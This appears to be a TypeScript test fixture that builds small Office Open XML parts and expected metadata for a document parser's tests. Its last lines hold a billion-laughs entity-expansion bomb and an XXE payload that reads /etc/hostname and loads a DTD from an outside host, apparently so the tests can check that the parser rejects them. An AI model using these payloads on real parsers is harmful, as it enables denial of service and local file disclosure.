/** What Office files are put together from. */
import type { RawMember } from './raw-zip.ts';

export const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
export const OOXML = 'application/vnd.openxmlformats-officedocument';
export const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

export const types: RawMember = {
  name: '[Content_Types].xml',
  data: `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`,
};
export const relations = (
  part: string,
  list: readonly (readonly [id: string, kind: string, target: string, mode?: string])[],
): RawMember => ({
  name: part,
  data: `${XML}<Relationships>${list.map(([id, kind, target, mode]) => `<Relationship Id="${id}" Type="${RELATIONS}/${kind}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`).join('')}</Relationships>`,
});
export const root = (target: string) => relations('_rels/.rels', [['rId1', 'officeDocument', target]]);
export const core: RawMember = {
  name: 'docProps/core.xml',
  data: `${XML}<cp:coreProperties xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>侵权对比</dc:title><dc:creator>李雷</dc:creator><dcterms:created xsi:type="dcterms:W3CDTF">2026-03-02T02:11:12Z</dcterms:created></cp:coreProperties>`,
};
export const app: RawMember = {
  name: 'docProps/app.xml',
  data: `${XML}<Properties><Application>Microsoft Office Word</Application></Properties>`,
};
export const told = {
  title: '侵权对比',
  author: '李雷',
  software: 'Microsoft Office Word',
  captured: { at: '2026-03-02T02:11:12Z', zone: 'UTC', source: 'office' },
} as const;

export const entities = Array.from({ length: 12 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('');
export const bomb = `<!DOCTYPE x [<!ENTITY e0 "ha">${entities}]>`;
export const outside = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/hostname"><!ENTITY % r SYSTEM "https://outside.example/x.dtd">%r;]>';
